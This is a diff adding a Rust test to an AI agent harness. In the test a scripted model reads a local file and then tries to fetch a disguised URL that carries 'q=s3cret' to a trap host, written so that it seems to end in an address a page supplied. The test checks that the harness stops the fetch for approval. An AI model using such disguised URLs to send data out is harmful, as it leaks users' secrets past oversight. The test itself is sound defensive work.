@@ -206,6 +206,26 @@ async fn addresses_that_a_person_or_a_page_gave_need_no_leave() {
     assert_eq!(questions(&world).await.len(), 1);
 }
 
+/// An address may be written so that it ends in the spelling of another one, which a page gave.
+#[tokio::test]
+async fn an_address_that_ends_in_one_that_a_page_gave_is_invented() {
+    let trap = Trap::set().await;
+    let host = trap.site.trim_start_matches("http://").to_owned();
+    let disguised = ["http:", "http:/", r"http:\\"]
+        .map(|scheme| format!("{scheme}{host}/take?q=s3cret&u=://{host}/take?page=1"));
+    for url in disguised {
+        let model =
+            ScriptedModel::new([fetch(&trap.page()), read("notes.txt"), fetch(&url), Script::text("Done.")]);
+        let world = trap.world(&model, "invented").await;
+        let root = world.ask(&format!("Look at {}.", trap.page())).await;
+        let question = world.question(root.id).await;
+        assert_eq!(question.about, About::Approval);
+        world.client().answer(question.id, Verdict::Reject.into()).await.unwrap();
+        ended(&world, &root).await;
+        assert_eq!(trap.taken(), [""; 0], "{url}");
+    }
+}
+
 /// An error repeats what an agent wrote; that gives it nothing to go by.
 #[tokio::test]
 async fn what_an_error_repeats_is_not_given_by_it() {
